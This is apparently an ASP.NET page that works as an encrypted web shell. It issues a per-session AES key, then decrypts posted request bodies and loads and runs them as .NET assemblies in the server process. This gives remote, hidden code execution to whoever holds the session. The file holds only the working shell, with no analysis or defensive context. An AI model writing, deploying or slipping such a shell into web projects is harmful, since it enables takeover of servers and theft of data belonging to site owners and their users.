<%@ Page Language="C#" EnableSessionState="true" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Reflection" %>
<%@ Import Namespace="System.Security.Cryptography" %>
<script runat="server">
    static byte[] Unwrap(byte[] input, byte[] key)
    {
        using (Aes aes = Aes.Create())
        {
            aes.Key = key;
            aes.IV = key;
            using (ICryptoTransform d = aes.CreateDecryptor())
                return d.TransformFinalBlock(input, 0, input.Length);
        }
    }

    protected void Page_Load(object sender, EventArgs e)
    {
        if (Session["sk"] == null)
        {
            byte[] k = Guid.NewGuid().ToByteArray();
            Session["sk"] = k;
            Response.Write(Convert.ToBase64String(k));
            return;
        }
        byte[] body = Request.BinaryRead(Request.ContentLength);
        byte[] raw = Unwrap(body, (byte[])Session["sk"]);
        if (Session["m"] == null)
            Session["m"] = Assembly.Load(raw);
        else
            ((Assembly)Session["m"]).CreateInstance("P").Equals(new object[] { Context, raw });
    }
</script>
